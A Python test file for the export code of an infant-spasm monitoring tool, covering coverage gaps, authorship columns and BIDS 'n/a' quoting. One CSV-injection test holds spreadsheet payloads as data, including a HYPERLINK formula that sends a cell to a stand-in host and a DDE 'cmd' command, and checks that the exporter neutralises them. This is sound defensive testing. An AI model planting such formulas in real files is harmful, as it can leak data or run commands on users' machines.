    assert run_cli("export", "--db", str(db), "--out", str(bids), "--until", UNTIL) == 0
    described = json.loads((tmp_path / "sub-01_events.json").read_text())["trial_type"]["Description"]
    assert "1970" not in described and f"from all bands, {side['RangeStartUTC']} to {iso(datetime.fromisoformat(UNTIL).timestamp())} (UTC)" in described
    none = tmp_path / "none.csv"
    assert run_cli("export", "--db", str(db), "--out", str(none), "--until", "2024-03-01T00:00:00Z") == 0
    empty = json.loads((tmp_path / "none.json").read_text())
    assert empty["RangeStartUTC"] is None and empty["RecordingStartUTC"] is None
    assert run_cli("export", "--db", str(db), "--out", str(tmp_path / "sub-02_events.tsv"), "--until", "2024-03-01T00:00:00Z") == 0
    assert "up to 2024-03-01T00:00:00.000Z (nothing was exported) (UTC)" in json.loads((tmp_path / "sub-02_events.json").read_text())["trial_type"]["Description"]


# A morning of a band taken off for half an hour (01:00-01:30), out of range for 45 min
# (03:00-03:45), and 5 events it logged lost (seqs 3-7, between the spasms at 02:00 and 04:00).
GAPS_OFF = ((3600.0, 5400.0),)
GAPS_GAP = ((10800.0, 13500.0),)
# (kind, onset_s, duration_s, EDF+ / BIDS text) as every format must carry them
GAPS_ROWS = [
    ("not_worn", 3600.0, 1800.0, "band not worn"),
    ("lost", 7200.0, 7200.0, "5 events lost (seq 3-7)"),
    ("disconnected", 10800.0, 2700.0, "band not heard (disconnected)"),
]


def _gaps_db(tmp_path: Path) -> Path:
    import gaps

    db = tmp_path / "gaps.db"
    gaps.build(db, DAY0, 6 * 3600, GAPS_OFF, GAPS_GAP, (1800.0, 7200.0, 14400.0), (3, 7, 4 * 3600.0))
    return db


def _gaps_export(db: Path, out: Path, fmt: str) -> None:
    assert run_cli("export", "--db", str(db), "--format", fmt, "--out", str(out), "--since", SINCE, "--until", "2024-03-04T06:00:00Z") == 0


def test_every_format_carries_not_worn_disconnected_and_lost_at_the_same_times(tmp_path: Path) -> None:
    """Researcher audit: a rate needs the time the band was worn and heard from, and no export said
    it: no not_worn rows (the store holds the band's verdict per epoch), nothing of the store's lost
    seq ranges or of the spans nothing was heard. Now each is a row of its own kind in every format,
    at the same times, and the sidecars give the range's hours. The old code wrote the 3 spasms only."""
    db = _gaps_db(tmp_path)
    coverage = {"not_worn", "disconnected", "lost"}
    want = [(k, o, d) for k, o, d, _ in GAPS_ROWS]

    _gaps_export(db, tmp_path / "g.csv", "csv")
    with open(tmp_path / "g.csv", newline="", encoding="utf-8") as f:
        table = list(csv.DictReader(f))
    assert [(r["kind"], float(r["onset_s"]), float(r["duration_s"])) for r in table if r["kind"] in coverage] == want
    (lost,) = [r for r in table if r["kind"] == "lost"]
    assert (lost["seq"], lost["count"], lost["device"], lost["onset_utc"]) == ("3", "5", "band-1", "2024-03-04T02:00:00.000Z")
    assert [r["kind"] for r in table].count("spasm") == 3
    side = json.loads((tmp_path / "g.json").read_text())
    hours = {"RecordedHours": 6.0, "WornHours": 5.5, "MonitoredHours": 4.75, "NotWornHours": 0.5, "DisconnectedHours": 0.75,
             "BeforeFirstHeardHours": 0.0, "AfterDataEndHours": 0.0, "LostEvents": 5, "LostEventsUndated": 0}  # fmt: skip
    assert side["Coverage"] == hours | {"ByDevice": {"band-1": hours}}

    _gaps_export(db, tmp_path / "g.jsonl", "jsonl")
    recs = [json.loads(line) for line in (tmp_path / "g.jsonl").read_text().splitlines()]
    assert [(r["kind"], r["onset_s"], r["duration_s"]) for r in recs if r["kind"] in coverage] == want

    _gaps_export(db, tmp_path / "g.parquet", "parquet")
    pt = pq.read_table(tmp_path / "g.parquet").to_pylist()
    assert [(r["kind"], r["onset_s"], r["duration_s"]) for r in pt if r["kind"] in coverage] == want
    assert json.loads(pq.read_schema(tmp_path / "g.parquet").metadata[b"spasmwatch"])["Coverage"]["MonitoredHours"] == 4.75

    _gaps_export(db, tmp_path / "g.edf", "edf")
    r = pyedflib.EdfReader(str(tmp_path / "g.edf"))
    try:
        onsets, durations, texts = r.readAnnotations()
    finally:
        r.close()
    got = [(float(o), float(d), str(t)) for o, d, t in zip(onsets, durations, texts, strict=True) if t != "spasm"]
    assert got == [(o, d, text) for _, o, d, text in GAPS_ROWS]

    bids = tmp_path / "sub-01_events.tsv"
    _gaps_export(db, bids, "bids")
    with open(bids, newline="", encoding="utf-8") as f:
        rows_ = list(csv.DictReader(f, delimiter="\t"))
    got_b = [(r["trial_type"], float(r["onset"]), float(r["duration"]), r["value"]) for r in rows_ if r["trial_type"] in coverage]
    assert got_b == GAPS_ROWS
    trial_type = json.loads(bids.with_suffix(".json").read_text())["trial_type"]
    assert set(trial_type["Levels"]) >= coverage
    assert "recorded 6.0 h, worn 5.5 h, monitored (worn and heard from) 4.75 h; not worn 0.5 h, disconnected 0.75 h; 5 events lost" in trial_type["Description"]


def test_a_not_worn_span_is_dated_as_replay_dates_it(tmp_path: Path) -> None:
    """The band says 'not worn' after 2 min of off-body epochs and 'worn' after 20 s on: the export's
    not_worn row runs from the first off-body epoch to the first on-body one, as replay's not_worn
    record (the Analyzer the daemon runs) says for the same epochs, not from the verdict's epochs."""
    import gaps

    from spasmwatch.analysis.pipeline import Analyzer
    from swcore.frontend import Params

    db = _gaps_db(tmp_path)
    an = Analyzer(Params(rate_hz=52.0))
    recs = [rec for t, off, _ in gaps.epochs(6 * 3600, GAPS_OFF) for rec in an.epoch_decided(DAY0 + t, 3 if off else 200, off)]
    (replayed,) = [r for r in recs if r["type"] == "not_worn"]
    _gaps_export(db, tmp_path / "w.csv", "csv")
    with open(tmp_path / "w.csv", newline="", encoding="utf-8") as f:
        (row,) = [r for r in csv.DictReader(f) if r["kind"] == "not_worn"]
    start = datetime.fromisoformat(row["onset_utc"].replace("Z", "+00:00")).timestamp()
    assert (start, start + float(row["duration_s"])) == (replayed["start"], replayed["end"]) == (DAY0 + 3600, DAY0 + 5400)


def _coverage_rows(csv_path: Path) -> list[tuple[str, float, float]]:
    with open(csv_path, newline="", encoding="utf-8") as f:
        return [(r["kind"], float(r["onset_s"]), float(r["duration_s"])) for r in csv.DictReader(f) if r["kind"] in ("not_worn", "disconnected")]


def _range_h(side: dict[str, object]) -> float:
    a, b = (datetime.fromisoformat(str(side[k]).replace("Z", "+00:00")).timestamp() for k in ("RangeStartUTC", "RangeEndUTC"))
    return (b - a) / 3600


def _accounted_h(hours: dict[str, float]) -> float:
    return hours["RecordedHours"] + hours["BeforeFirstHeardHours"] + hours["AfterDataEndHours"]


def test_every_second_of_the_range_is_accounted_for(tmp_path: Path) -> None:
    """Researcher audit: coverage said nothing before a band's first epoch or after its latest, so a
    band switched off since (here 06:00 of a range to 08:00) had no disconnected row and its missing
    hours were only implicit; nor was a range starting before the band was first heard (01:00) told.
    Now the silence after the latest epoch is a disconnected row, and the sidecar's recorded hours
    (first heard to the end of data) + before first heard + after the end of data are the range's 8 h.
    By hand: off 02:00-02:30, not heard 03:00-03:30 and 06:00-08:00; monitored 5 - 0.5 - 0.5 = 4 h.
    The old code wrote no 06:00 row, and its hours (recorded 5.0) did not add up to the range."""
    import gaps

    db = tmp_path / "late.db"
    h = 3600.0
    gaps.build(db, DAY0 + h, 5 * h, off=((h, 1.5 * h),), gaps=((2 * h, 2.5 * h),))
    assert run_cli("export", "--db", str(db), "--out", str(tmp_path / "l.csv"), "--since", SINCE, "--until", "2024-03-04T08:00:00Z") == 0
    assert _coverage_rows(tmp_path / "l.csv") == [("not_worn", 2 * h, 0.5 * h), ("disconnected", 3 * h, 0.5 * h), ("disconnected", 6 * h, 2 * h)]
    side = json.loads((tmp_path / "l.json").read_text())
    hours = {"RecordedHours": 7.0, "WornHours": 6.5, "MonitoredHours": 4.0, "NotWornHours": 0.5, "DisconnectedHours": 2.5,
             "BeforeFirstHeardHours": 1.0, "AfterDataEndHours": 0.0, "LostEvents": 0, "LostEventsUndated": 0}  # fmt: skip
    assert side["Coverage"] == hours | {"ByDevice": {"band-1": hours}}
    assert _accounted_h(hours) == _range_h(side) == 8.0


def test_with_neither_since_nor_a_row_the_hours_start_where_the_band_was_first_heard(tmp_path: Path) -> None:
    """No --since and nothing of the kinds asked (no treatment here): the range's start was the
    query's, 1970-01-01, and the sidecar said 'BeforeFirstHeardHours' of some 475,000 h. Now the
    hours start where the band was first heard (01:00): none before it, 7 h recorded to the range's
    08:00, 5 of them monitored."""
    import gaps

    db = tmp_path / "t.db"
    gaps.build(db, DAY0 + 3600.0, 5 * 3600.0)
    assert run_cli("export", "--db", str(db), "--out", str(tmp_path / "t.csv"), "--kinds", "treatment", "--until", "2024-03-04T08:00:00Z") == 0
    cov = json.loads((tmp_path / "t.json").read_text())["Coverage"]
    assert (cov["BeforeFirstHeardHours"], cov["RecordedHours"], cov["MonitoredHours"]) == (0.0, 7.0, 5.0), cov


def test_a_band_not_heard_now_is_disconnected_up_to_the_export(tmp_path: Path) -> None:
    """A band heard until an hour ago and not since (out of range, switched off) is disconnected from
    its latest epoch to the time of the export; the rest of the default range (up to a day from now)
    is after the end of data, and the hours add up to the range. The old code wrote no row for it."""
    import time

    import gaps

    h = 3600.0
    t0 = float(int(time.time() - 3 * h))
    db = tmp_path / "now.db"
    gaps.build(db, t0, 2 * h)
    before = time.time()
    assert run_cli("export", "--db", str(db), "--out", str(tmp_path / "n.csv"), "--since", iso(t0)) == 0
    after = time.time()
    ((kind, onset, duration),) = _coverage_rows(tmp_path / "n.csv")
    assert (kind, onset) == ("disconnected", 2 * h)
    assert before - t0 - 2 * h - 0.001 <= duration <= after - t0 - 2 * h + 0.001
    side = json.loads((tmp_path / "n.json").read_text())
    cov = side["Coverage"]
    assert (cov["MonitoredHours"], cov["DisconnectedHours"], cov["BeforeFirstHeardHours"]) == (2.0, pytest.approx(1.0, abs=0.002), 0.0)
    assert cov["AfterDataEndHours"] == pytest.approx(24.0, abs=0.002)  # --until's default: a day from now
    assert _accounted_h(cov) == pytest.approx(_range_h(side), abs=0.002)


def _epochs(device: str, t: float, end: float) -> list[ActivityRow]:
    return [ActivityRow(device, t + k * 10.0, 10.0, True, True, True) for k in range(int((end - t) / 10.0))]


@pytest.mark.parametrize(("silent_s", "a_disconnected_s"), [(15.0, 0.0), (25.0, 25.0)])
def test_each_band_s_seconds_add_up_to_the_range(silent_s: float, a_disconnected_s: float) -> None:
    """Two bands, a range 09:00-12:00 exported at 11:00 + ``silent_s``: band a heard 10:00-11:00,
    band b 09:30-10:00. Each band's kinds add up to the range's 3 h to the second. A band silent
    for no longer than a bridged gap (20 s: its next epoch may be on its way) is not disconnected:
    a live export has no stub at its end; 25 s is. The old coverage() had no end of data (no
    ``now``): b's last 61 min and a's silence were no hour of any kind."""
    from spasmwatch.export.coverage import coverage

    h = 3600.0
    since, now = DAY0 + 9 * h, DAY0 + 11 * h + silent_s
    src = Tables(activity_rows=_epochs("a", DAY0 + 10 * h, DAY0 + 11 * h) + _epochs("b", DAY0 + 9.5 * h, DAY0 + 10 * h))
    cov = coverage(src, None, since, since + 3 * h, now=now)
    a, b = cov.by_device["a"], cov.by_device["b"]
    assert (a.before_heard_s, a.worn_s, a.disconnected_s) == (h, h + silent_s - a_disconnected_s, a_disconnected_s)
    assert (b.before_heard_s, b.worn_s, b.disconnected_s) == (0.5 * h, 0.5 * h, h + silent_s)
    for hours in (a, b):
        assert hours.worn_s + hours.not_worn_s + hours.disconnected_s + hours.before_heard_s + hours.after_data_s == 3 * h
        assert hours.after_data_s == 1 * h - silent_s


def test_a_treatment_s_and_a_note_s_author_are_exported(tmp_path: Path) -> None:
    """Researcher audit: the store keeps who recorded a treatment change (treatment add --by) and
    every export dropped it. Now in the 'by' column (for notes too); the old code had no such column."""
    from spasmwatch.store import Store

    db = tmp_path / "s.db"
    with Store(db) as store:
        store.add_treatment(TREATMENT_T, "vigabatrin", "start", 50.0, "mg/kg/day", None, "Dr Weber")
        store.add_note(TREATMENT_T + 60, "medication", "first dose", None, "mother")
        store.add_treatment(TREATMENT_T + 3600, "vigabatrin", "change", 100.0, "mg/kg/day")
    _export(db, tmp_path / "t.csv", "csv")
    with open(tmp_path / "t.csv", newline="", encoding="utf-8") as f:
        assert [(r["kind"], r["by"]) for r in csv.DictReader(f)] == [("treatment", "Dr Weber"), ("note", "mother"), ("treatment", "")]
    out = tmp_path / "sub-01_events.tsv"
    _export(db, out, "bids")
    with open(out, newline="", encoding="utf-8") as f:
        assert [r["by"] for r in csv.DictReader(f, delimiter="\t")] == ["Dr Weber", "mother", "n/a"]


def test_who_labelled_a_cluster_is_exported(tmp_path: Path) -> None:
    """Researcher audit: a cluster's label (confirmed, false alarm) is exported but not who gave
    it, while a note's and a treatment's author are (the store keeps it: labels.by). It is the
    cluster row's 'by', of its latest label as 'label' is; the old code left it empty in every
    format (CSV '', BIDS 'n/a', JSONL null)."""
    from spasmwatch.store import Store

    db = tmp_path / "s.db"
    with Store(db) as store:
        first = store.upsert_cluster(DEVICE, "a", TREATMENT_T, TREATMENT_T + 60, 5, TREATMENT_T + 20, None, True)
        store.upsert_cluster(DEVICE, "b", TREATMENT_T + 3600, TREATMENT_T + 3660, 4, TREATMENT_T + 3620, None, True)  # not labelled
        store.label_cluster(first, "confirmed", "mother", TREATMENT_T + 600)
        store.label_cluster(first, "false_alarm", "Dr Weber", TREATMENT_T + 900)  # the latest label is the one exported
    _export(db, tmp_path / "t.csv", "csv")
    with open(tmp_path / "t.csv", newline="", encoding="utf-8") as f:
        assert [(r["label"], r["by"]) for r in csv.DictReader(f)] == [("false_alarm", "Dr Weber"), ("", "")]
    _export(db, tmp_path / "t.jsonl", "jsonl")
    assert [json.loads(x)["by"] for x in (tmp_path / "t.jsonl").read_text().splitlines()] == ["Dr Weber", None]
    out = tmp_path / "sub-01_events.tsv"
    _export(db, out, "bids")
    with open(out, newline="", encoding="utf-8") as f:
        assert [r["by"] for r in csv.DictReader(f, delimiter="\t")] == ["Dr Weber", "n/a"]


def test_a_note_that_reads_n_a_is_not_a_missing_value_in_bids(tmp_path: Path) -> None:
    """BIDS reads 'n/a' as a missing value: a caregiver note whose text is 'n/a' was written as
    'n/a', the same as no text (researcher audit). It is written 'n/a' in single quotes (double
    quotes are taken off by CSV readers such as pandas, which would read it missing again); the
    sidecar says so."""
    from spasmwatch.store import Store

    db = tmp_path / "s.db"
    with Store(db) as store:
        store.add_note(TREATMENT_T, "note", "n/a")
        store.add_treatment(TREATMENT_T + 60, "vigabatrin", "start", 50.0, "mg/kg/day")  # no note: its text is missing
    out = tmp_path / "sub-01_events.tsv"
    _export(db, out, "bids")
    with open(out, newline="", encoding="utf-8") as f:
        texts = [r["text"] for r in csv.DictReader(f, delimiter="\t")]
    assert texts == ["'n/a'", "n/a"]  # the note's own text; the treatment's missing one
    assert "written 'n/a', in single quotes" in json.loads(out.with_suffix(".json").read_text())["text"]["Description"]


# Texts a spreadsheet (Excel, LibreOffice) runs as a formula when it opens the file (OWASP "CSV injection"),
# and one that begins with the quote the rule puts in front (doubled, so one ' off gives each back).
FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A2,"the video")', "+1+1", "-2+3 ml", "@SUM(A1:A9)", "'quoted"]
ORDINARY = 'filmed 3 spasms at 06:10, "jerky"; video 2024-03-11 06.10.mp4 (5 min)'


def test_a_text_a_spreadsheet_would_run_as_a_formula_is_written_with_a_quote_in_front(tmp_path: Path) -> None:
    """A note, a video's file name, a drug, a unit or a name typed by a family, beginning with = + - @
    (or '), is written in the CSV and BIDS exports with a ' in front: a doctor's spreadsheet shows it
    as text, never runs it. Old code: written as typed ('=HYPERLINK(...)' a live link in Excel). Numbers
    are not touched; an ordinary text's bytes are the same as typed."""
    from spasmwatch.store import Store

    db = tmp_path / "s.db"
    with Store(db) as store:
        for i, text in enumerate(FORMULAS):
            store.add_note(TREATMENT_T + i, "video", text, by="=cmd|' /C calc'!A0")
        store.add_treatment(TREATMENT_T + 60, "@vigabatrin", "start", 50.0, "-mg/kg/day", note="=1+1", by="+Anna")
        store.add_note(TREATMENT_T + 120, "note", ORDINARY, by="Anna")
    _export(db, tmp_path / "t.csv", "csv")
    with open(tmp_path / "t.csv", newline="", encoding="utf-8") as f:
        table = list(csv.DictReader(f))
    notes, (treat,), (ordinary,) = table[: len(FORMULAS)], table[len(FORMULAS) : -1], table[-1:]
    assert [r["text"] for r in notes] == ["'" + t for t in FORMULAS]
    assert {r["by"] for r in notes} == {"'=cmd|' /C calc'!A0"} and {r["note_kind"] for r in notes} == {"video"}
    assert (treat["drug"], treat["unit"], treat["text"], treat["by"], treat["dose"]) == ("'@vigabatrin", "'-mg/kg/day", "'=1+1", "'+Anna", "50.0")
    assert (ordinary["text"], ordinary["by"]) == (ORDINARY, "Anna")
    as_before = io.StringIO()  # the ordinary row's bytes as the old writer (csv.writer) wrote them
    csv.writer(as_before, lineterminator="\n").writerow(ordinary.values())
    assert (tmp_path / "t.csv").read_bytes().endswith(as_before.getvalue().encode())
    assert "FormulaCells" in json.loads((tmp_path / "t.json").read_text())
    out = tmp_path / "sub-01_events.tsv"
    _export(db, out, "bids")
    with open(out, newline="", encoding="utf-8") as f:
        bids = list(csv.DictReader(f, delimiter="\t"))
    assert [r["text"] for r in bids] == ["'" + t for t in FORMULAS] + ["'=1+1", ORDINARY]
    assert (bids[-2]["drug"], bids[-2]["unit"], bids[-2]["value"]) == ("'@vigabatrin", "'-mg/kg/day", "'@vigabatrin start 50 -mg/kg/day")
    assert bids[0]["value"] == "note (video): " + FORMULAS[0]  # (begins with its kind: no formula)
    assert "a ' in front" in json.loads(out.with_suffix(".json").read_text())["drug"]["Description"]
    from spasmwatch.analysis.labels import read_labels  # ('truth' reads an events table: the export's kinds, as before)

    assert [lab.kind for lab in read_labels(str(out))] == ["note"] * len(FORMULAS) + ["treatment", "note"]
    _export(db, tmp_path / "t.jsonl", "jsonl")  # typed formats keep every text as typed
    assert [json.loads(x)["text"] for x in (tmp_path / "t.jsonl").read_text().splitlines()] == [*FORMULAS, "=1+1", ORDINARY]


def test_numbers_stay_numbers_and_control_characters_first_are_neutralised_in_csv(tmp_path: Path) -> None:
    """Only the free-text columns are touched: a negative number reads as a number (pyarrow's CSV reader,
    which pandas' read_csv(engine='pyarrow') is), a text beginning with '-', a tab or a carriage return is
    text, and a carriage return inside a text stays in its cell."""
    import pyarrow.csv as pacsv

    from spasmwatch.export.rows import NoteRow

    src = Tables(spasm_rows=[SpasmRow(DEVICE, 1, 0, DAY0 + 5.0, 1.0, 100.0, -20.5, 80)],
                 note_rows=[NoteRow(1, None, DAY0 + 6.0, "note", "-5 ml"), NoteRow(2, None, DAY0 + 7.0, "note", "\t=1+1"),
                            NoteRow(3, None, DAY0 + 8.0, "note", "\r=1+1"), NoteRow(4, None, DAY0 + 9.0, "note", "seen\r=1+1, twice")])  # fmt: skip
    q = Query(None, DAY0, DAY0 + 100.0)
    t0, stream = relative(rows(src, q), DAY0)
    assert export("csv", tmp_path / "x.csv", stream, Meta(q, t0)) == 5
    read = pacsv.read_csv(tmp_path / "x.csv")
    assert str(read.schema.field("peak_angle_deg").type) == "double" and read.column("peak_angle_deg")[0].as_py() == -20.5
    assert str(read.schema.field("onset_s").type) == "double" and read.column("onset_s").to_pylist() == [5.0, 6.0, 7.0, 8.0, 9.0]
    # (a carriage return inside a text is quoted: old code left it bare, a new row from there on)
    assert read.column("text").to_pylist()[1:] == ["'-5 ml", "'\t=1+1", "'\r=1+1", "seen\r=1+1, twice"]


def test_each_bids_free_text_column_says_how_its_n_a_and_its_quote_are_read_back(tmp_path: Path) -> None:
    """A drug, unit or name typed as 'n/a' is written 'n/a' in single quotes, as a note's text is; their
    columns' descriptions said only 'one leading ' off gives it as typed' (which gives n/a'): old code,
    only the text column's said the 'n/a' rule. Read back by the rule each description now states,
    every cell gives the text as typed."""
    from spasmwatch.export.columns import FREE_TEXT
    from spasmwatch.store import Store

    typed = ["n/a", "'n/a'", "'n/a", "=1+1", "-5 ml", "plain"]
    db = tmp_path / "s.db"
    with Store(db) as store:
        for i, t in enumerate(typed):
            store.add_treatment(TREATMENT_T + 60 * i, t, "start", 1.0, t, note=t, by=t)
    out = tmp_path / "sub-01_events.tsv"
    _export(db, out, "bids")
    sidecar = json.loads(out.with_suffix(".json").read_text())
    for column in sorted(FREE_TEXT):
        said = sidecar[column]["Description"]
        assert "written 'n/a', in single quotes" in said and "one leading ' off gives it as typed" in said, (column, said)
    with open(out, newline="", encoding="utf-8") as f:
        table = list(csv.DictReader(f, delimiter="\t"))

    def as_typed(cell: str) -> str:  # the rule the descriptions state
        return "n/a" if cell == "'n/a'" else cell[1:] if cell.startswith("'") else cell

    for column in sorted(FREE_TEXT):
        assert [as_typed(r[column]) for r in table] == typed, column


def test_the_store_s_fresh_starts_are_the_estimate_s(tmp_path: Path) -> None:
    """StoreSource reads a range's epochs from the band's last fresh start (Store.activity_run_start,
    in SQL): on random epochs (gaps about SLEEP_GAP_KEEP_MS to the millisecond, unworn ones, some
    unknown off the body), it is the latest epoch at or before each cut that export/sleep.py's
    _decisions starts afresh at, reading all the band's epochs."""
    from spasmwatch.export.sleep import GAP_KEEP_S, _decisions
    from spasmwatch.export.store_source import EPOCH_S, StoreSource
    from spasmwatch.store import Store

    rng, ms, rows = random.Random(7), 0, []
    for _ in range(3000):
        ms += 10_000 + rng.choice([0, 0, 0, rng.randint(0, 2000), 300_000 + rng.randint(-2, 2)])
        worn, off = rng.choice([(1, 0)] * 20 + [(0, 0), (-1, 1), (-1, 0), (1, 1)])
        rows.append({"boot": 1, "t_ms": ms, "activity": 0, "breath": 40, "off_body": off, "worn": worn})
    db = tmp_path / "s.db"
    with Store(db) as store:
        store.add_sync(DEVICE, 1, 0, DAY0 + 0.25)
        store.add_activity(DEVICE, rows, received_wall_s=DAY0)
    with Store.open_readonly(db) as store:
        source = StoreSource(store)
        band = source._band(DEVICE, next(store.activity_chunks(DEVICE, -1e18, 1e18)))
        fresh = _decisions(band).fresh
        assert len(fresh) > 50
        for k in rng.sample(range(len(band)), 300):
            since = float(band.t[k]) + rng.choice([0.0, 0.001, 5.0])
            want = band.t[fresh[fresh <= k][-1]] + EPOCH_S
            assert store.activity_run_start(DEVICE, -1e18, since + EPOCH_S, EPOCH_S, GAP_KEEP_S) == want, k


@pytest.mark.parametrize(("zone", "text"), [("Asia/Tokyo", "0001-01-01"), ("America/New_York", "9999-12-31T23:59"), (None, "0001-01-01")])
def test_a_time_at_the_ends_of_the_calendar_is_refused_naming_the_option(zone: str | None, text: str) -> None:
    """Found by the hostile-input review: 'events --since 0001-01-01' said only 'year 0 is out of
    range (or a span like 12h, 7d)', naming neither the option nor the time given: its instant falls
    before year 1 or after 9999 in UTC (east or west of Greenwich), or in this computer's zone."""
    from zoneinfo import ZoneInfo

    from spasmwatch.export import parse_iso

    with pytest.raises(ValueError) as err:
        parse_iso(text, "--since", None if zone is None else ZoneInfo(zone))
    assert str(err.value).startswith(f"--since: {text} is beyond the dates a computer's clock can give ("), str(err.value)
